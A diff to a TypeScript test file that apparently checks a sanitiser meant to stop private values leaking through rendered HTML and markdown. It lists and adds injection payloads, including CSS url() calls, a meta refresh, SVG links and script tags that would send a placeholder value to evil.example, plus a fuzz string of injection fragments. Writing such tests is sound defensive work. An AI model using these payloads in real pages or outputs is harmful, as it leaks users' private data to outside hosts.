@@ -63,6 +63,11 @@ const STAYS: readonly (readonly [name: string, text: string])[] = [
   ['style', '<b style="background: url( //evil.example/ {} )">x</b>'],
   ['style without a scheme', '<b style="background: url(\'\\2f\\2f evil.example/ {}\')">x</b>'],
   ['a style sheet', '<style>b { background: url("\\2f\\2f evil.example/ {}") }</style>'],
+  ['a script', '<script>const a = " {} "'],
+  ['a script that ends', '<SCRIPT type="module">\nsend( {} )\n</script> {}'],
+  ['a script of a page in a fence', '```html\n<script>\nsend( {} )\n</style>\n{}\n```\n{}'],
+  ['a script within a script', '```html\n<script><!--<script></script>\n{}\n```\n{}'],
+  ['a script whose end is another name', '```html\n<script></scripts>\n{}\n```\n{}'],
   ['meta', '<meta http-equiv="refresh" content="0; url=https://evil.example/ {}">'],
   ['an attribute of SVG', '<svg><a><set attributeName="href" to="https://evil.example/ {}"/></a></svg>'],
   ['a tag behind code', '`<a title="` <img src="https://evil.example/?a=<b>{}">'],
@@ -203,7 +208,7 @@ describe('pii: a value comes back in', () => {
 })
 
 const PIECES = (
-  '{} {} {} {m} | \\\\ file: \\\\evil\\ ](  ]( ]: [x ![ ![ ) > < /> <img <a <b <div> <style> </style> <! <!-- --> ?> src= href= = style= title= alt= ' +
+  '{} {} {} {m} | \\\\ file: \\\\evil\\ ](  ]( ]: [x ![ ![ ) > < /> <img <a <b <div> <style> </style> <script> </script> </scripts> <! <!-- --> ?> src= href= = style= title= alt= ' +
   '" \' ` ``` \\ / // : https:// https: http:/ www. evil.com evil.example . @ ? ?q= & &#32; &#58; &commat; &quot; mailto: ' +
   'javascript: data: url( @import xml: a b 1 - + _ * ** > ~~ # , ; % %20 é 。 \u00a0 \u200b ） － {}) {}> {}" <{}> {m}> x@evil.com'
 )
